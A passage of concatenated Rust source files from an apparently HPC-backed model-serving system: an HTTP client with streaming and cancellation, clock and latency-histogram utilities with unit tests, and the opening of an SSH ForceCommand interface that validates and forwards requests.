                    if let Some(stats) = &sb.stats {
                        stats
                            .heartbeats_sent
                            .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                    }
                    b": heartbeat\n\n".to_vec()
                }
                Err(RecvTimeoutError::Disconnected) => return Ok(()),
            },
            None => match sb.rx.recv() {
                Ok(c) => c,
                Err(_) => return Ok(()),
            },
        };
        if chunk.is_empty() {
            continue;
        }
        write!(writer, "{:x}\r\n", chunk.len())?;
        writer.write_all(&chunk)?;
        writer.write_all(b"\r\n")?;
        writer.flush()?;
    }
}

// ---------------------------------------------------------------------------
// Client
// ---------------------------------------------------------------------------

/// A client response. For streamed (chunked) responses, `body` holds the
/// fully reassembled bytes unless you use [`Client::send_streaming`].
#[derive(Debug)]
pub struct ClientResponse {
    pub status: u16,
    pub headers: HashMap<String, String>,
    pub body: Vec<u8>,
}

impl ClientResponse {
    pub fn body_str(&self) -> std::borrow::Cow<'_, str> {
        String::from_utf8_lossy(&self.body)
    }

    pub fn json(&self) -> Result<crate::util::json::Json, crate::util::json::JsonError> {
        crate::util::json::parse(&self.body_str())
    }
}

/// A keep-alive HTTP client pinned to one host (one TCP connection, reused;
/// reconnects transparently on failure).
pub struct Client {
    addr: String,
    conn: Option<BufReader<TcpStream>>,
    /// Connect/read timeout.
    pub timeout: Duration,
}

impl Client {
    pub fn new(addr: &str) -> Client {
        Client {
            addr: addr.trim_start_matches("http://").to_string(),
            conn: None,
            timeout: Duration::from_secs(30),
        }
    }

    /// Open a fresh connection (does not touch the cached one).
    fn dial(&self) -> std::io::Result<BufReader<TcpStream>> {
        let sockaddr = self
            .addr
            .to_socket_addrs()?
            .next()
            .ok_or_else(|| std::io::Error::other("no address"))?;
        let stream = TcpStream::connect_timeout(&sockaddr, self.timeout)?;
        stream.set_nodelay(true).ok();
        stream.set_read_timeout(Some(self.timeout)).ok();
        Ok(BufReader::new(stream))
    }

    fn connect(&mut self) -> std::io::Result<&mut BufReader<TcpStream>> {
        if self.conn.is_none() {
            self.conn = Some(self.dial()?);
        }
        Ok(self.conn.as_mut().unwrap())
    }

    pub fn get(&mut self, path: &str) -> Result<ClientResponse, HttpError> {
        self.send(&Request::new("GET", path))
    }

    pub fn post_json(
        &mut self,
        path: &str,
        body: &crate::util::json::Json,
    ) -> Result<ClientResponse, HttpError> {
        self.send(
            &Request::new("POST", path)
                .with_header("content-type", "application/json")
                .with_body(body.to_string().into_bytes()),
        )
    }

    /// Send a request, reading the response fully (chunked bodies are
    /// reassembled). Retries once on a stale keep-alive connection.
    pub fn send(&mut self, req: &Request) -> Result<ClientResponse, HttpError> {
        match self.send_once(req) {
            Ok(resp) => Ok(resp),
            Err(_) => {
                self.conn = None; // stale connection: reconnect once
                self.send_once(req)
            }
        }
    }

    fn send_once(&mut self, req: &Request) -> Result<ClientResponse, HttpError> {
        let addr = self.addr.clone();
        let conn = self.connect()?;
        write_request(conn.get_mut(), req, &addr)?;
        let (status, headers) = read_response_head(conn)?;
        let body = read_body(conn, &headers)?;
        Ok(ClientResponse {
            status,
            headers,
            body,
        })
    }

    /// Send a request and invoke `on_chunk` per chunk as it arrives (SSE
    /// streaming). Returns status + headers after the stream ends.
    pub fn send_streaming(
        &mut self,
        req: &Request,
        on_chunk: impl FnMut(&[u8]),
    ) -> Result<ClientResponse, HttpError> {
        self.send_streaming_with_head(req, |_, _| {}, on_chunk)
    }

    /// Like [`Client::send_streaming`], but invokes `on_head` with
    /// (status, headers) as soon as the response head is parsed — before
    /// any body chunk. Lets proxies forward the status line ahead of a
    /// streamed body.
    pub fn send_streaming_with_head(
        &mut self,
        req: &Request,
        mut on_head: impl FnMut(u16, &HashMap<String, String>),
        mut on_chunk: impl FnMut(&[u8]),
    ) -> Result<ClientResponse, HttpError> {
        let mut status = 0u16;
        let mut headers_out: HashMap<String, String> = HashMap::new();
        let mut body = Vec::new();
        self.send_streaming_until(
            req,
            |s, h| {
                status = s;
                headers_out = h.clone();
                on_head(s, h);
            },
            |chunk| {
                body.extend_from_slice(chunk);
                on_chunk(chunk);
                true
            },
        )?;
        Ok(ClientResponse {
            status,
            headers: headers_out,
            body,
        })
    }

    /// The cancellation-aware streaming primitive: `on_chunk` returns
    /// whether to keep reading. Returning `false` severs the connection,
    /// so the upstream hop observes a client disconnect — that TCP drop is
    /// how cancellation propagates between HTTP hops. Chunks are not
    /// accumulated (memory stays flat on long streams).
    pub fn send_streaming_until(
        &mut self,
        req: &Request,
        mut on_head: impl FnMut(u16, &HashMap<String, String>),
        mut on_chunk: impl FnMut(&[u8]) -> bool,
    ) -> Result<StreamOutcome, HttpError> {
        let addr = self.addr.clone();
        // Streaming over a possibly-stale keep-alive connection: reset first.
        self.conn = None;
        let mut conn = self.dial()?;
        write_request(conn.get_mut(), req, &addr)?;
        let (status, headers) = read_response_head(&mut conn)?;
        on_head(status, &headers);
        let chunked = headers
            .get("transfer-encoding")
            .map(|v| v.eq_ignore_ascii_case("chunked"))
            .unwrap_or(false);
        if !chunked {
            let body = read_body(&mut conn, &headers)?;
            on_chunk(&body);
            self.conn = Some(conn);
            return Ok(StreamOutcome::Complete);
        }
        loop {
            let mut size_line = String::new();
            conn.read_line(&mut size_line)?;
            let size = usize::from_str_radix(size_line.trim(), 16)
                .map_err(|_| HttpError::BadResponse("bad chunk size".into()))?;
            if size == 0 {
                let mut crlf = String::new();
                conn.read_line(&mut crlf)?;
                // Clean end: the connection is reusable.
                self.conn = Some(conn);
                return Ok(StreamOutcome::Complete);
            }
            let mut chunk = vec![0u8; size];
            conn.read_exact(&mut chunk)?;
            let mut crlf = [0u8; 2];
            conn.read_exact(&mut crlf)?;
            if !on_chunk(&chunk) {
                // Dropping `conn` closes the socket mid-stream: the
                // upstream's next write fails and its cancel token trips.
                return Ok(StreamOutcome::Aborted);
            }
        }
    }
}

/// How [`Client::send_streaming_until`] ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StreamOutcome {
    /// Upstream terminated the stream normally.
    Complete,
    /// `on_chunk` asked to stop; the connection was severed so upstream
    /// sees a disconnect.
    Aborted,
}

fn write_request<W: Write>(writer: &mut W, req: &Request, host: &str) -> Result<(), HttpError> {
    let target = if req.query.is_empty() {
        req.path.clone()
    } else {
        format!("{}?{}", req.path, req.query)
    };
    let mut head = format!("{} {} HTTP/1.1\r\nhost: {}\r\n", req.method, target, host);
    for (k, v) in &req.headers {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    head.push_str(&format!("content-length: {}\r\n\r\n", req.body.len()));
    writer.write_all(head.as_bytes())?;
    writer.write_all(&req.body)?;
    writer.flush()?;
    Ok(())
}

fn read_response_head<R: BufRead>(
    reader: &mut R,
) -> Result<(u16, HashMap<String, String>), HttpError> {
    let mut line = String::new();
    let n = reader.read_line(&mut line)?;
    if n == 0 {
        return Err(HttpError::BadResponse("eof before status line".into()));
    }
    let mut parts = line.trim_end().splitn(3, ' ');
    let _version = parts.next();
    let status: u16 = parts
        .next()
        .and_then(|s| s.parse().ok())
        .ok_or_else(|| HttpError::BadResponse(format!("bad status line: {line}")))?;
    let headers = read_headers(reader).map_err(|e| match e {
        HttpError::BadRequest(m) => HttpError::BadResponse(m),
        other => other,
    })?;
    Ok((status, headers))
}

/// Thread-local keep-alive client cache for proxy hot paths: handlers run
/// on worker-pool threads, so one cached connection per (thread, upstream)
/// gives keep-alive reuse without locking. §Perf: the gateway moved from
/// ~580 to >2000 RPS with this (connection setup dominated).
pub fn with_pooled_client<R>(addr: &str, f: impl FnOnce(&mut Client) -> R) -> R {
    use std::cell::RefCell;
    use std::collections::HashMap;
    thread_local! {
        static POOL: RefCell<HashMap<String, Client>> = RefCell::new(HashMap::new());
    }
    POOL.with(|pool| {
        let mut pool = pool.borrow_mut();
        let client = pool
            .entry(addr.to_string())
            .or_insert_with(|| Client::new(addr));
        f(client)
    })
}

/// Parse SSE `data:` payloads out of a raw byte stream fragment accumulator.
/// Feed chunks; yields complete event datas.
#[derive(Default)]
pub struct SseParser {
    buf: String,
    /// Comment lines seen (`: heartbeat` keep-alives are SSE comments).
    pub comments: u64,
    /// `event:` names seen (e.g. terminal `error` events).
    pub event_names: Vec<String>,
}

impl SseParser {
    pub fn new() -> SseParser {
        SseParser::default()
    }

    /// Push raw bytes; returns the `data:` payloads of any completed events.
    pub fn push(&mut self, bytes: &[u8]) -> Vec<String> {
        self.buf.push_str(&String::from_utf8_lossy(bytes));
        let mut out = Vec::new();
        while let Some(idx) = self.buf.find("\n\n") {
            let event: String = self.buf[..idx].to_string();
            self.buf.drain(..idx + 2);
            for line in event.lines() {
                if let Some(data) = line.strip_prefix("data:") {
                    out.push(data.trim_start().to_string());
                } else if let Some(name) = line.strip_prefix("event:") {
                    self.event_names.push(name.trim().to_string());
                } else if line.starts_with(':') {
                    self.comments += 1;
                }
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::json::Json;

    fn echo_server() -> Server {
        Server::serve(
            "127.0.0.1:0",
            "echo",
            2,
            Arc::new(|req: &Request| {
                let body = format!(
                    "{} {} q={} len={}",
                    req.method,
                    req.path,
                    req.query,
                    req.body.len()
                );
                Response::text(200, body)
            }),
        )
        .unwrap()
    }

    #[test]
    fn get_roundtrip() {
        let server = echo_server();
        let mut client = Client::new(&server.url());
        let resp = client.get("/hello?a=1").unwrap();
        assert_eq!(resp.status, 200);
        assert_eq!(resp.body_str(), "GET /hello q=a=1 len=0");
    }

    #[test]
    fn post_json_roundtrip() {
        let server = Server::serve(
            "127.0.0.1:0",
            "json",
            2,
            Arc::new(|req: &Request| {
                let v = crate::util::json::parse(&req.body_str()).unwrap();
                Response::json(200, &Json::obj().set("model", v.str_field("model").unwrap()))
            }),
        )
        .unwrap();
        let mut client = Client::new(&server.url());
        let resp = client
            .post_json("/v1/chat", &Json::obj().set("model", "llama"))
            .unwrap();
        assert_eq!(resp.status, 200);
        assert_eq!(resp.json().unwrap().str_field("model"), Some("llama"));
    }

    #[test]
    fn keep_alive_reuses_connection() {
        let server = echo_server();
        let mut client = Client::new(&server.url());
        for i in 0..20 {
            let resp = client.get(&format!("/r{i}")).unwrap();
            assert_eq!(resp.status, 200);
        }
    }

    #[test]
    fn streaming_chunks_arrive_incrementally() {
        let server = Server::serve(
            "127.0.0.1:0",
            "stream",
            2,
            Arc::new(|_req: &Request| {
                let (resp, tx) = Response::stream(200, 8);
                std::thread::spawn(move || {
                    for i in 0..5 {
                        tx.send(format!("tok{i};").into_bytes()).unwrap();
                    }
                });
                resp
            }),
        )
        .unwrap();
        let mut client = Client::new(&server.url());
        let mut chunks = Vec::new();
        let resp = client
            .send_streaming(&Request::new("GET", "/s"), |c| {
                chunks.push(String::from_utf8_lossy(c).to_string())
            })
            .unwrap();
        assert_eq!(resp.status, 200);
        assert_eq!(resp.body_str(), "tok0;tok1;tok2;tok3;tok4;");
        assert!(chunks.len() >= 2, "expected incremental chunks: {chunks:?}");
    }

    #[test]
    fn sse_parser_extracts_events() {
        let mut p = SseParser::new();
        let first = p.push(b"data: {\"a\":1}\n\ndata: {\"b\"");
        assert_eq!(first, vec!["{\"a\":1}".to_string()]);
        let second = p.push(b":2}\n\n");
        assert_eq!(second, vec!["{\"b\":2}".to_string()]);
    }

    #[test]
    fn error_response_shape() {
        let resp = Response::error(429, "rate limited");
        match &resp.body {
            Body::Full(b) => {
                let v = crate::util::json::parse(&String::from_utf8_lossy(b)).unwrap();
                assert_eq!(
                    v.get("error").unwrap().str_field("message"),
                    Some("rate limited")
                );
            }
            _ => panic!("expected full body"),
        }
    }

    #[test]
    fn rejects_oversized_body() {
        let server = echo_server();
        let addr = server.addr();
        let mut stream = TcpStream::connect(addr).unwrap();
        let head = format!(
            "POST / HTTP/1.1\r\nhost: x\r\ncontent-length: {}\r\n\r\n",
            MAX_BODY_BYTES + 1
        );
        stream.write_all(head.as_bytes()).unwrap();
        let mut reader = BufReader::new(stream);
        let (status, _) = read_response_head(&mut reader).unwrap();
        assert_eq!(status, 400);
    }

    #[test]
    fn malformed_request_line_is_400() {
        let server = echo_server();
        let mut stream = TcpStream::connect(server.addr()).unwrap();
        stream.write_all(b"NONSENSE\r\n\r\n").unwrap();
        let mut reader = BufReader::new(stream);
        let (status, _) = read_response_head(&mut reader).unwrap();
        assert_eq!(status, 400);
    }

    #[test]
    fn concurrent_clients() {
        let server = echo_server();
        let url = server.url();
        let mut handles = Vec::new();
        for _ in 0..8 {
            let url = url.clone();
            handles.push(std::thread::spawn(move || {
                let mut client = Client::new(&url);
                for _ in 0..20 {
                    assert_eq!(client.get("/x").unwrap().status, 200);
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
    }

    #[test]
    fn server_stop_unblocks() {
        let mut server = echo_server();
        server.stop();
        // second stop is a no-op
        server.stop();
    }

    #[test]
    fn wants_stream_requires_a_true_json_field() {
        let req = |body: &str| Request::new("POST", "/x").with_body(body.as_bytes().to_vec());
        assert!(req(r#"{"stream":true}"#).wants_stream());
        assert!(req(r#"{ "max_tokens": 5, "stream" : true }"#).wants_stream());
        assert!(req("\n  {\"stream\": true}").wants_stream(), "leading whitespace");
        assert!(!req(r#"{"stream":false}"#).wants_stream());
        assert!(!req(r#"{"stream":"true"}"#).wants_stream(), "string is not bool");
        assert!(!req(r#"{"messages":[{"content":"say \"stream\":true"}]}"#).wants_stream());
        assert!(!req("not json \"stream\" at all").wants_stream());
        assert!(!req("").wants_stream());
    }

    #[test]
    fn heartbeats_cover_idle_producer_gaps() {
        let server = Server::serve(
            "127.0.0.1:0",
            "hb",
            2,
            Arc::new(|_req: &Request| {
                let (resp, tx) = Response::sse(4);
                std::thread::spawn(move || {
                    // Idle "prefill" phase, then one real event.
                    std::thread::sleep(Duration::from_millis(150));
                    let _ = tx.send(b"data: tok\n\n".to_vec());
                });
                resp.with_heartbeat(Duration::from_millis(25))
            }),
        )
        .unwrap();
        let mut client = Client::new(&server.url());
        let mut sse = SseParser::new();
        let mut events = Vec::new();
        client
            .send_streaming(&Request::new("GET", "/s"), |c| {
                events.extend(sse.push(c));
            })
            .unwrap();
        assert_eq!(events, vec!["tok".to_string()]);
        assert!(sse.comments >= 2, "expected heartbeats, saw {}", sse.comments);
    }

    #[test]
    fn client_abort_cancels_the_stream_token() {
        let token_slot: Arc<std::sync::Mutex<Option<crate::util::streaming::CancelToken>>> =
            Arc::new(std::sync::Mutex::new(None));
        let handler_slot = token_slot.clone();
        let server = Server::serve(
            "127.0.0.1:0",
            "cancel",
            2,
            Arc::new(move |_req: &Request| {
                let token = crate::util::streaming::CancelToken::new();
                *handler_slot.lock().unwrap() = Some(token.clone());
                let (resp, tx) = Response::stream(200, 2);
                let producer_token = token.clone();
                std::thread::spawn(move || {
                    // Emit forever until the write side reports disconnect.
                    let mut i = 0u64;
                    while !producer_token.is_cancelled() {
                        // Large chunks defeat OS socket buffering so the
                        // write failure surfaces promptly.
                        let chunk = vec![b'x'; 64 * 1024];
                        if tx.send(chunk).is_err() {
                            break;
                        }
                        i += 1;
                        if i > 10_000 {
                            break; // safety valve
                        }
                    }
                });
                resp.with_stream_cancel(token)
            }),
        )
        .unwrap();
        let mut client = Client::new(&server.url());
        let mut seen = 0usize;
        let outcome = client
            .send_streaming_until(
                &Request::new("GET", "/s"),
                |status, _| assert_eq!(status, 200),
                |_chunk| {
                    seen += 1;
                    seen < 3 // hang up after a few chunks
                },
            )
            .unwrap();
        assert_eq!(outcome, StreamOutcome::Aborted);
        let token = token_slot.lock().unwrap().clone().expect("token minted");
        let deadline = std::time::Instant::now() + Duration::from_secs(5);
        while !token.is_cancelled() {
            assert!(
                std::time::Instant::now() < deadline,
                "disconnect never detected"
            );
            std::thread::sleep(Duration::from_millis(10));
        }
    }
}
