//! Real + virtual clocks.
//!
//! The serving path (HTTP, SSH channel, PJRT execution) runs on wall time;
//! the Slurm simulator and the adoption model run in *virtual* time so that
//! 160 days of figure-5 trace or thousands of scheduling cycles take
//! milliseconds. Components are written against the [`Clock`] trait so the
//! same scheduler code drives both.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

/// Milliseconds since an arbitrary epoch (process start for [`RealClock`],
/// simulation start for [`SimClock`]).
pub type Millis = u64;

/// Time source abstraction.
pub trait Clock: Send + Sync {
    /// Monotonic milliseconds since the clock's epoch.
    fn now_ms(&self) -> Millis;

    /// Sleep (real) or no-op/advance hint (virtual). Virtual clocks are
    /// advanced explicitly by the simulation driver, so `sleep` on a
    /// [`SimClock`] advances the clock itself.
    fn sleep(&self, d: Duration);
}

/// Wall-clock time relative to process start.
pub struct RealClock {
    start: Instant,
}

impl RealClock {
    pub fn new() -> RealClock {
        RealClock {
            start: Instant::now(),
        }
    }
}

impl Default for RealClock {
    fn default() -> Self {
        Self::new()
    }
}

impl Clock for RealClock {
    fn now_ms(&self) -> Millis {
        self.start.elapsed().as_millis() as u64
    }

    fn sleep(&self, d: Duration) {
        std::thread::sleep(d);
    }
}

/// Discrete-event virtual clock. `sleep` advances time; `advance_to` /
/// `advance_by` let an event loop drive it directly.
pub struct SimClock {
    now: AtomicU64,
}

impl SimClock {
    pub fn new() -> Arc<SimClock> {
        Arc::new(SimClock {
            now: AtomicU64::new(0),
        })
    }

    pub fn advance_by(&self, ms: Millis) {
        self.now.fetch_add(ms, Ordering::SeqCst);
    }

    /// Advance to an absolute timestamp; times never go backwards.
    pub fn advance_to(&self, t: Millis) {
        self.now.fetch_max(t, Ordering::SeqCst);
    }
}

impl Clock for SimClock {
    fn now_ms(&self) -> Millis {
        self.now.load(Ordering::SeqCst)
    }

    fn sleep(&self, d: Duration) {
        self.advance_by(d.as_millis() as u64);
    }
}

/// Unix timestamp in seconds (for tokens / log lines that want absolute time).
pub fn unix_now_secs() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0)
}

/// A stopwatch for latency measurements.
pub struct Stopwatch {
    start: Instant,
}

impl Stopwatch {
    pub fn start() -> Stopwatch {
        Stopwatch {
            start: Instant::now(),
        }
    }

    pub fn elapsed_ms(&self) -> f64 {
        self.start.elapsed().as_secs_f64() * 1e3
    }

    pub fn elapsed_us(&self) -> f64 {
        self.start.elapsed().as_secs_f64() * 1e6
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sim_clock_advances() {
        let c = SimClock::new();
        assert_eq!(c.now_ms(), 0);
        c.advance_by(250);
        assert_eq!(c.now_ms(), 250);
        c.sleep(Duration::from_millis(750));
        assert_eq!(c.now_ms(), 1000);
        c.advance_to(900); // never backwards
        assert_eq!(c.now_ms(), 1000);
        c.advance_to(1500);
        assert_eq!(c.now_ms(), 1500);
    }

    #[test]
    fn real_clock_monotonic() {
        let c = RealClock::new();
        let a = c.now_ms();
        std::thread::sleep(Duration::from_millis(5));
        let b = c.now_ms();
        assert!(b >= a + 4, "a={a} b={b}");
    }

    #[test]
    fn stopwatch_measures() {
        let sw = Stopwatch::start();
        std::thread::sleep(Duration::from_millis(10));
        let ms = sw.elapsed_ms();
        assert!(ms >= 9.0, "ms={ms}");
    }
}
