//! Latency histograms and streaming summaries.
//!
//! [`Histogram`] is a log-bucketed (HDR-style) histogram over microseconds:
//! constant memory, ~4% relative error, lock-free recording — good enough to
//! report the paper's latency tables and the load-generator percentiles.

use std::sync::atomic::{AtomicU64, Ordering};

/// Number of sub-buckets per power of two (resolution ≈ 1/32 ≈ 3%).
const SUBBUCKETS: usize = 32;
/// Covers values up to 2^40 µs (~12 days) — beyond anything we measure.
const MAX_EXP: usize = 40;
const NBUCKETS: usize = MAX_EXP * SUBBUCKETS;

/// Concurrent log-bucketed histogram of `u64` values (microseconds by
/// convention).
pub struct Histogram {
    buckets: Vec<AtomicU64>,
    count: AtomicU64,
    sum: AtomicU64,
    max: AtomicU64,
    min: AtomicU64,
}

impl Histogram {
    pub fn new() -> Histogram {
        Histogram {
            buckets: (0..NBUCKETS).map(|_| AtomicU64::new(0)).collect(),
            count: AtomicU64::new(0),
            sum: AtomicU64::new(0),
            max: AtomicU64::new(0),
            min: AtomicU64::new(u64::MAX),
        }
    }

    fn index(value: u64) -> usize {
        let v = value.max(1);
        let exp = 63 - v.leading_zeros() as usize; // floor(log2 v)
        if exp < 5 {
            // values < 32 land in the first linear region
            return v as usize;
        }
        let sub = ((v >> (exp - 5)) & 31) as usize; // top 5 bits below the MSB
        ((exp - 4) * SUBBUCKETS + sub).min(NBUCKETS - 1)
    }

    /// Lower bound of a bucket (inverse of `index`, approximate).
    fn bucket_floor(idx: usize) -> u64 {
        if idx < SUBBUCKETS {
            return idx as u64;
        }
        let exp = idx / SUBBUCKETS + 4;
        let sub = (idx % SUBBUCKETS) as u64;
        (1u64 << exp) + (sub << (exp - 5))
    }

    pub fn record(&self, value: u64) {
        self.buckets[Self::index(value)].fetch_add(1, Ordering::Relaxed);
        self.count.fetch_add(1, Ordering::Relaxed);
        self.sum.fetch_add(value, Ordering::Relaxed);
        self.max.fetch_max(value, Ordering::Relaxed);
        self.min.fetch_min(value, Ordering::Relaxed);
    }

    pub fn count(&self) -> u64 {
        self.count.load(Ordering::Relaxed)
    }

    pub fn mean(&self) -> f64 {
        let c = self.count();
        if c == 0 {
            0.0
        } else {
            self.sum.load(Ordering::Relaxed) as f64 / c as f64
        }
    }

    pub fn max(&self) -> u64 {
        self.max.load(Ordering::Relaxed)
    }

    pub fn min(&self) -> u64 {
        let m = self.min.load(Ordering::Relaxed);
        if m == u64::MAX {
            0
        } else {
            m
        }
    }

    /// Approximate quantile (`q` in `[0,1]`).
    pub fn quantile(&self, q: f64) -> u64 {
        let total = self.count();
        if total == 0 {
            return 0;
        }
        let target = ((q.clamp(0.0, 1.0) * total as f64).ceil() as u64).max(1);
        let mut seen = 0u64;
        for (i, b) in self.buckets.iter().enumerate() {
            seen += b.load(Ordering::Relaxed);
            if seen >= target {
                return Self::bucket_floor(i).min(self.max());
            }
        }
        self.max()
    }

    pub fn p50(&self) -> u64 {
        self.quantile(0.50)
    }
    pub fn p95(&self) -> u64 {
        self.quantile(0.95)
    }
    pub fn p99(&self) -> u64 {
        self.quantile(0.99)
    }

    pub fn reset(&self) {
        for b in &self.buckets {
            b.store(0, Ordering::Relaxed);
        }
        self.count.store(0, Ordering::Relaxed);
        self.sum.store(0, Ordering::Relaxed);
        self.max.store(0, Ordering::Relaxed);
        self.min.store(u64::MAX, Ordering::Relaxed);
    }

    /// One-line summary (values interpreted as µs, printed as ms).
    pub fn summary_ms(&self) -> String {
        format!(
            "n={} mean={:.2}ms p50={:.2}ms p95={:.2}ms p99={:.2}ms max={:.2}ms",
            self.count(),
            self.mean() / 1e3,
            self.p50() as f64 / 1e3,
            self.p95() as f64 / 1e3,
            self.p99() as f64 / 1e3,
            self.max() as f64 / 1e3,
        )
    }
}

impl std::fmt::Debug for Histogram {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Histogram({})", self.summary_ms())
    }
}

impl Default for Histogram {
    fn default() -> Self {
        Self::new()
    }
}

/// Plain running mean / std-dev accumulator (Welford) for Table-1-style
/// "avg (std)" cells.
#[derive(Debug, Clone, Default)]
pub struct Welford {
    n: u64,
    mean: f64,
    m2: f64,
}

impl Welford {
    pub fn new() -> Welford {
        Welford::default()
    }

    pub fn add(&mut self, x: f64) {
        self.n += 1;
        let delta = x - self.mean;
        self.mean += delta / self.n as f64;
        self.m2 += delta * (x - self.mean);
    }

    pub fn count(&self) -> u64 {
        self.n
    }

    pub fn mean(&self) -> f64 {
        self.mean
    }

    pub fn std(&self) -> f64 {
        if self.n < 2 {
            0.0
        } else {
            (self.m2 / (self.n - 1) as f64).sqrt()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::rng::Rng;

    #[test]
    fn small_values_exact() {
        let h = Histogram::new();
        for v in 0..32u64 {
            h.record(v);
        }
        assert_eq!(h.count(), 32);
        assert_eq!(h.min(), 0);
        assert_eq!(h.max(), 31);
    }

    #[test]
    fn quantiles_approximate_uniform() {
        let h = Histogram::new();
        let mut rng = Rng::new(11);
        for _ in 0..100_000 {
            h.record(rng.range(1, 100_000));
        }
        let p50 = h.p50() as f64;
        let p99 = h.p99() as f64;
        assert!((p50 - 50_000.0).abs() / 50_000.0 < 0.08, "p50={p50}");
        assert!((p99 - 99_000.0).abs() / 99_000.0 < 0.08, "p99={p99}");
    }

    #[test]
    fn quantile_relative_error_bounded() {
        let h = Histogram::new();
        for _ in 0..1000 {
            h.record(123_456);
        }
        let p50 = h.p50() as f64;
        assert!((p50 - 123_456.0).abs() / 123_456.0 < 0.05, "p50={p50}");
    }

    #[test]
    fn mean_exact() {
        let h = Histogram::new();
        h.record(10);
        h.record(20);
        h.record(30);
        assert_eq!(h.mean(), 20.0);
    }

    #[test]
    fn reset_clears() {
        let h = Histogram::new();
        h.record(5);
        h.reset();
        assert_eq!(h.count(), 0);
        assert_eq!(h.p99(), 0);
    }

    #[test]
    fn welford_matches_naive() {
        let mut w = Welford::new();
        let xs = [2.0, 4.0, 4.0, 4.0, 5.0, 5.0, 7.0, 9.0];
        for &x in &xs {
            w.add(x);
        }
        assert!((w.mean() - 5.0).abs() < 1e-12);
        // sample std of this classic set is ~2.138
        assert!((w.std() - 2.138).abs() < 0.01, "std={}", w.std());
    }

    #[test]
    fn bucket_floor_monotone() {
        let mut prev = 0;
        for i in 0..NBUCKETS {
            let f = Histogram::bucket_floor(i);
            assert!(f >= prev, "idx {i}: {f} < {prev}");
            prev = f;
        }
    }
}
