//! The Cloud Interface Script (§5.5): the ForceCommand target on the HPC
//! service node. Strictly parses every input (the paper's injection-attack
//! surface), routes requests via the scheduler's routing table, and
//! forwards them to service instances, streaming responses back over the
//! SSH channel.

mod parser;
mod script;

pub use parser::{
    parse_command, parse_op, valid_service_name, CommandVerb, ForwardRequest, Op, Violation,
    MAX_ENVELOPE_BYTES,
};
pub use script::{CloudInterface, EXIT_OK, EXIT_UPSTREAM, EXIT_VIOLATION};
