//! The Cloud Interface Script proper (§5.5): the single ForceCommand
//! target. Receives every request coming over SSH, validates it with the
//! strict parser, consults the scheduler's routing table and forwards to a
//! ready service instance, streaming the response back over stdout.
//!
//! Response envelope on stdout:
//! ```text
//!   {"status":200,"headers":{...}}\n      (one JSON head line)
//!   <body bytes, streamed as produced>
//! ```

use std::sync::{Arc, Mutex};

use super::parser::{self, Op};
use crate::scheduler::{DemandTracker, RoutingTable};
use crate::ssh::ExecContext;
use crate::util::clock::Clock;
use crate::util::fairness::Priority;
use crate::util::http::{HttpError, PooledBuf, Request, StreamOutcome};
use crate::util::json::Json;
use crate::util::rng::Rng;
use crate::util::streaming::{StreamStats, StreamingConfig};
use crate::util::trace;

/// Exit codes the script reports over SSH.
pub const EXIT_OK: i32 = 0;
pub const EXIT_VIOLATION: i32 = 2;
pub const EXIT_UPSTREAM: i32 = 3;

/// Cap on one batched SSH `Stdout` frame assembled from queued chunks.
const FRAME_BATCH_BYTES: usize = 32 * 1024;

/// Shared state for the script.
pub struct CloudInterface {
    pub routing: Arc<RoutingTable>,
    pub demand: Arc<DemandTracker>,
    pub clock: Arc<dyn Clock>,
    /// Invoked on every ping — the paper triggers the scheduler script from
    /// the keep-alive signal.
    pub scheduler_trigger: Arc<dyn Fn() + Send + Sync>,
    rng: Mutex<Rng>,
    streaming: StreamingConfig,
    /// Relay-path counters (bytes forwarded, SSH frames batched).
    pub stream_stats: Arc<StreamStats>,
    /// Security audit counters.
    pub violations: std::sync::atomic::AtomicU64,
    pub forwarded: std::sync::atomic::AtomicU64,
}

impl CloudInterface {
    pub fn new(
        routing: Arc<RoutingTable>,
        demand: Arc<DemandTracker>,
        clock: Arc<dyn Clock>,
        scheduler_trigger: Arc<dyn Fn() + Send + Sync>,
        seed: u64,
    ) -> Arc<CloudInterface> {
        Self::with_streaming(
            routing,
            demand,
            clock,
            scheduler_trigger,
            seed,
            StreamingConfig::default(),
        )
    }

    /// Construct with explicit `[streaming]` tuning (relay mode, buffers).
    pub fn with_streaming(
        routing: Arc<RoutingTable>,
        demand: Arc<DemandTracker>,
        clock: Arc<dyn Clock>,
        scheduler_trigger: Arc<dyn Fn() + Send + Sync>,
        seed: u64,
        streaming: StreamingConfig,
    ) -> Arc<CloudInterface> {
        Arc::new(CloudInterface {
            routing,
            demand,
            clock,
            scheduler_trigger,
            rng: Mutex::new(Rng::new(seed)),
            streaming,
            stream_stats: StreamStats::new(),
            violations: std::sync::atomic::AtomicU64::new(0),
            forwarded: std::sync::atomic::AtomicU64::new(0),
        })
    }

    /// Entry point, shaped as an [`crate::ssh::Executable`].
    pub fn run(&self, ctx: &mut ExecContext) -> i32 {
        match parser::parse_op(&ctx.original_command, &ctx.stdin) {
            Ok(Op::Ping) => {
                (self.scheduler_trigger)();
                (ctx.stdout)(b"pong\n");
                EXIT_OK
            }
            Ok(Op::Probe { service: None }) => {
                let body = self.routing_status();
                (ctx.stdout)(format!("{body}\n").as_bytes());
                EXIT_OK
            }
            Ok(Op::Probe { service: Some(svc) }) => self.forward_health(&svc, ctx),
            Ok(Op::Request(req)) => self.forward_request(req, ctx),
            Err(v) => {
                self.violations
                    .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                log::warn!(target: "cloud_interface", "rejected input: {v}");
                let head = Json::obj()
                    .set("status", 400u64)
                    .set("error", v.to_string());
                (ctx.stdout)(format!("{head}\n").as_bytes());
                EXIT_VIOLATION
            }
        }
    }

    /// Routing-table status + per-service load. The federation prober
    /// scrapes this through the SSH channel to score clusters (model
    /// availability → health → least-loaded).
    fn routing_status(&self) -> Json {
        let now = self.clock.now_ms();
        let mut services = Json::obj();
